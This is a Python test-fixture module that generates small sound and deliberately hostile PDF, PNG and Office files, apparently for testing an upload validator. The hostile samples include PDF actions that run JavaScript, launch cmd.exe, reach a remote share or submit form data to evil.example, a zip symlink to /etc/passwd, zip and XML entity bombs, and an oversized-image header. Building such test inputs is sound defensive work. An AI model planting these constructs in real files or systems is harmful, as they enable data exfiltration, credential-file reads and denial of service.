"""Makers of files, sound and hostile, each a few bytes or kilobytes."""

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pikepdf
from PIL import Image

SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TEXT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# -- PDF


def pdf(
    pages: int = 1, change: Callable[[pikepdf.Pdf], None] | None = None, **save: object
) -> bytes:
    """Return a PDF of blank pages, changed in one way."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    kept = io.BytesIO()
    made.save(kept, static_id=True, **save)  # type: ignore[arg-type]
    return kept.getvalue()


def _opening(**action: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(action)

    return change


def _deep_script(made: pikepdf.Pdf) -> None:
    """Hang a script below a form field that is no page's annotation."""
    script = made.make_indirect(
        pikepdf.Dictionary(
            {"/S": pikepdf.Name.JavaScript, "/JS": made.make_stream(b"app.alert(1)")}
        )
    )
    field = pikepdf.Dictionary({"/T": "amount", "/AA": pikepdf.Dictionary({"/K": script})})
    made.Root.AcroForm = pikepdf.Dictionary({"/Fields": [made.make_indirect(field)]})


def _xfa(made: pikepdf.Pdf) -> None:
    form = made.make_stream(b"<xdp/>")
    made.Root.AcroForm = pikepdf.Dictionary({"/Fields": [], "/XFA": form})


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["payload.exe"] = pikepdf.AttachedFileSpec(made, b"MZ", filename="payload.exe")


def _link(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary({"/S": pikepdf.Name.URI, "/URI": "https://example.com/"})
    note = pikepdf.Dictionary(
        {
            "/Type": pikepdf.Name.Annot,
            "/Subtype": pikepdf.Name.Link,
            "/Rect": [0, 0, 9, 9],
            "/A": action,
        }
    )
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])


def _no_pages(made: pikepdf.Pdf) -> None:
    del made.pages[0]


def locked(
    user: str = "", owner: str = "owner", change: Callable[[pikepdf.Pdf], None] | None = None
) -> bytes:
    """Return a PDF that is encrypted; without a user password it opens everywhere."""
    return pdf(1, change, encryption=pikepdf.Encryption(owner=owner, user=user))


# -- pictures


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **save: object) -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", size, (50, 71, 197)).save(kept, kind, **save)  # type: ignore[arg-type]
    return kept.getvalue()


def _chunk(name: bytes, content: bytes) -> bytes:
    body = name + content
    return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))


def png_that_claims(width: int, height: int) -> bytes:
    """Return a tiny PNG whose header claims many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1000)
    chunks = _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def moving_png() -> bytes:
    frames = [Image.new("RGB", (4, 4), (shade, 0, 0)) for shade in range(3)]
    kept = io.BytesIO()
    frames[0].save(kept, "PNG", save_all=True, append_images=frames[1:])
    return kept.getvalue()


# -- Office


def office(kind: str = "xlsx", more: Mapping[str, bytes] | None = None, main: str = "") -> bytes:
    """Return the smallest XLSX or DOCX, with more members."""
    own = {"xlsx": SHEET, "docx": TEXT}[kind]
    place = {"xlsx": "xl/workbook.xml", "docx": "word/document.xml"}[kind]
    members = {
        "[Content_Types].xml": (
            "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
            f"<Override PartName='/{place}' ContentType='{main or own + '.main+xml'}'/></Types>"
        ).encode(),
        "_rels/.rels": relations("officeDocument", place),
        place: b"<document/>",
        **(more or {}),
    }
    kept = io.BytesIO()
    with ZipFile(kept, "w", ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return kept.getvalue()


def relations(kind: str, target: str, mode: str = "") -> bytes:
    outside = f" TargetMode='{mode}'" if mode else ""
    return (
        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
        f"<Relationship Id='r1' Type='{RELATIONS}/{kind}' Target='{target}'{outside}/>"
        "</Relationships>"
    ).encode()


def office_bomb() -> bytes:
    return office(more={"xl/worksheets/sheet1.xml": b" " * (40 * 1024 * 1024)})


def office_of_many() -> bytes:
    return office(more={f"xl/media/{number}.txt": b"" for number in range(5001)})


def office_with_link() -> bytes:
    """Return an archive with a symbolic link as a member."""
    kept = io.BytesIO(office())
    with ZipFile(kept, "a") as archive:
        link = ZipInfo("xl/passwords")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return kept.getvalue()


def office_with_a_password_flag() -> bytes:
    """Return an archive whose members say that they are encrypted."""
    made = bytearray(office())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(signature)
        while at >= 0:
            made[at + offset] |= 1
            at = made.find(signature, at + 4)
    return bytes(made)


def office_with_entities() -> bytes:
    billion = b"<!DOCTYPE t [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><Types>&b;</Types>"
    return office(more={"[Content_Types].xml": billion})


def damaged_office() -> bytes:
    """Return an archive with one flipped bit inside a member."""
    made = bytearray(office(more={"xl/worksheets/sheet1.xml": bytes(range(256)) * 40}))
    at = made.find(b"xl/worksheets/sheet1.xml") + 60
    made[at] ^= 0x10
    return bytes(made)


CHANGES = {
    "script": _opening(**{"/S": pikepdf.Name.JavaScript, "/JS": "app.alert(1)"}),
    "deep script": _deep_script,
    "launch": _opening(**{"/S": pikepdf.Name.Launch, "/F": "cmd.exe"}),
    "remote": _opening(**{"/S": pikepdf.Name.GoToR, "/F": "\\\\host\\share\\x.pdf", "/D": [0]}),
    "submit": _opening(**{"/S": pikepdf.Name.SubmitForm, "/F": "https://evil.example/"}),
    "attached": _attach,
    "xfa": _xfa,
    "link": _link,
    "no pages": _no_pages,
}
